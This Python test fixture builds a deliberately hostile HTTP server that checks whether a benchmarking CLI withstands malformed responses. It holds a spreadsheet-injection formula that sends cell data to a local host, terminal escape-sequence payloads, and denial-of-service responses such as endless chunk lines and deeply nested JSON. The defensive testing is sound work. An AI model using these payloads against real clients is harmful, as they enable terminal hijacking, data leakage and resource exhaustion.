"""A misbehaving HTTP server on raw sockets, one switch per behaviour (issue 14, point 3 and 4).

The fake server (`specdash.bench.fake_server`) misbehaves within HTTP; these behaviours break the
framing itself (an endless chunk-size line, a 5,000-digit count), so they are written byte by byte here.
It runs on its own thread and loop, so the CLI under test is a separate process, as a user would run it.
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager

REQUEST_BEHAVIOURS = (
    "huge_count",  # completion_tokens = 10^20 (overflowed the store's int64)
    "digits_count",  # a count of 5,000 digits (int() raised inside data_received)
    "nested_json",  # an SSE payload nested 100,000 deep (RecursionError)
    "endless_chunk_line",  # a chunk-size line that never ends (quadratic, unbounded buffer)
    "ignores_max_tokens",  # streams tokens until the client gives up
    "http500",  # every request fails with HTTP 500
    "escape_error",  # HTTP 500 whose body is terminal escape sequences
    "huge_event",  # one SSE event of 64 MiB without a blank line
    "continue_100",  # a `100 Continue` before the response (issue 29.2: was a stall on every request)
    "early_hints_103",  # two `103 Early Hints` (with Link headers) before the response
    "interim_flood",  # interim responses without end: fails as malformed, bounded
    "formula_error",  # an in-stream error whose message is a spreadsheet formula (issue 29.8)
)
CONTROL_BEHAVIOURS = (
    "info_huge",  # /server_info streams 200 MB
    "info_not_utf8",  # /server_info and /metrics bodies are not UTF-8
    "info_nested",  # /server_info nested 100,000 deep
    "info_redirect",  # /server_info redirects to another origin
    "info_escapes",  # /server_info and /v1/models carry terminal escapes (JSON \\u001b) in version and model names
    "info_trickle",  # every control-plane answer trickles one byte a second (issue 29.2: held bench 302 s)
)
BEHAVIOURS = REQUEST_BEHAVIOURS + CONTROL_BEHAVIOURS

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred"
INFO_ESCAPES = (
    '{"version": "0.5\\u001b]0;pwned\\u0007", "model_path": "/m\\u001b[2J\\u009b31m\\u202eevil\\n2",'
    ' "internal_states": [{"avg_spec_accept_length": 2.0}], "tp_size": 1,'
    ' "served_model_name": "x\\u0000y", "\\u001b[1mkey": "v"}'
)
FORMULA = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
"""A server's error text that a spreadsheet would run."""
MODELS_ESCAPES = '{"data": [{"id": "model\\u001b[31m\\u0007", "owned_by": "sglang\\u001b"}]}'


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def _event(tokens: int, text: str = "x") -> bytes:
    payload = b'{"text":"%s","meta_info":{"id":"r","completion_tokens":%d}}' % (text.encode(), tokens)
    return _chunk(b"data: " + payload + b"\n\n")


class HostileServer:
    """Serves `/generate`, `/server_info`, `/metrics` badly according to `behaviour`."""

    def __init__(self, behaviour: str) -> None:
        assert behaviour in BEHAVIOURS, behaviour
        self.behaviour = behaviour
        self.port = 0
        self.redirect_hits = 0
        """Requests that reached the redirect's other origin (must stay 0)."""
        self.other_port = 0
        self._loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._stop: asyncio.Event | None = None

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)

        async def main() -> None:
            server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
            other = await asyncio.start_server(self._other, "127.0.0.1", 0)
            self.port = server.sockets[0].getsockname()[1]
            self.other_port = other.sockets[0].getsockname()[1]
            self._stop = asyncio.Event()
            self._ready.set()
            await self._stop.wait()
            for srv in (server, other):
                srv.close()
            tasks = [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]
            for t in tasks:
                t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

        self._loop.run_until_complete(main())
        self._loop.close()

    async def _other(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.redirect_hits += 1
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
        await writer.drain()
        writer.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                line = head.split(b"\r\n", 1)[0].decode()
                method, path = line.split(" ")[:2]
                length = 0
                for h in head.split(b"\r\n")[1:]:
                    if h.lower().startswith(b"content-length:"):
                        length = int(h.split(b":")[1])
                if length:
                    await reader.readexactly(length)
                if not await self._answer(method, path, writer):
                    break
        except (asyncio.IncompleteReadError, ConnectionError, asyncio.LimitOverrunError):
            pass
        finally:
            writer.close()

    async def _answer(self, method: str, path: str, w: asyncio.StreamWriter) -> bool:
        b = self.behaviour
        if path in ("/server_info", "/get_server_info", "/metrics", "/v1/models"):
            return await self._control(path, w)
        if path != "/generate":
            w.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            return True
        if b in ("http500", "escape_error"):
            body = (ESCAPES if b == "escape_error" else "internal error").encode()
            w.write(b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
            await w.drain()
            return True
        if b == "continue_100":
            w.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        elif b == "early_hints_103":
            w.write(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n" * 2)
        elif b == "interim_flood":
            for _ in range(1000):
                w.write(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\n")
        await w.drain()
        w.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        if b == "formula_error":  # an in-stream error event: its message becomes the sample's whole detail
            error = json.dumps({"error": {"message": FORMULA}}).encode()
            w.write(_chunk(b"data: " + error + b"\n\n") + _chunk(b"data: [DONE]\n\n") + b"0\r\n\r\n")
        elif b == "huge_count":
            w.write(_event(1) + _event(10**20))
        elif b == "digits_count":
            w.write(_event(1) + _chunk(b'data: {"meta_info":{"completion_tokens":' + b"7" * 5000 + b"}}\n\n"))
        elif b == "nested_json":
            w.write(_chunk(b'data: {"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n\n"))
        elif b == "endless_chunk_line":
            for _ in range(64):  # 64 MiB of hex digits, never a CRLF
                w.write(b"f" * (1 << 20))
                await w.drain()
        elif b == "huge_event":
            w.write(_chunk(b'data: {"text":"'))
            for _ in range(64):
                w.write(_chunk(b"y" * (1 << 20)))
                await w.drain()
        elif b == "ignores_max_tokens":
            n = 0
            while n < 10_000_000:
                n += 1
                w.write(_event(n))
                if n % 256 == 0:
                    await w.drain()
        else:
            for n in range(1, 9):
                w.write(_event(n))
            w.write(_chunk(b"data: [DONE]\n\n") + b"0\r\n\r\n")
        await w.drain()
        if b in ("ok",) or not b.startswith(("huge", "digits", "nested", "endless", "ignores")):
            return True
        await asyncio.sleep(30)  # hold the broken stream open: the client must end it
        return False

    async def _control(self, path: str, w: asyncio.StreamWriter) -> bool:
        b = self.behaviour
        if b == "info_trickle":
            body = b'{"version": "0.5", "tp_size": 1}' + b" " * 600
            w.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body))
            for i in range(len(body)):  # one byte a second, at most 10 minutes: the client must give up first
                w.write(body[i : i + 1])
                await w.drain()
                await asyncio.sleep(1.0)
            return True
        if b == "info_redirect" and path != "/metrics":
            where = f"http://127.0.0.1:{self.other_port}/server_info"
            w.write(f"HTTP/1.1 302 Found\r\nLocation: {where}\r\nContent-Length: 0\r\n\r\n".encode())
        elif b == "info_huge" and path != "/metrics":
            w.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (200 << 20))
            w.write(b'{"a":"')
            for _ in range(200):
                w.write(b"z" * (1 << 20))
                await w.drain()
            return False
        elif b == "info_not_utf8":
            body = b'{"version": "\xff\xfe\xc3"}' if path != "/metrics" else b"sglang:num_running_reqs \xff\xfe 1\n"
            w.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        elif b == "info_escapes" and path != "/metrics":
            body = (MODELS_ESCAPES if path == "/v1/models" else INFO_ESCAPES).encode()
            w.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        elif b == "info_nested" and path != "/metrics":
            body = b"[" * 100_000 + b"]" * 100_000
            w.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        else:
            w.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
        await w.drain()
        return True


@contextmanager
def hostile_server(behaviour: str) -> Iterator[HostileServer]:
    server = HostileServer(behaviour)
    server._thread.start()
    assert server._ready.wait(10), "hostile server did not start"
    try:
        yield server
    finally:
        assert server._stop is not None
        server._loop.call_soon_threadsafe(server._stop.set)
        server._thread.join(10)
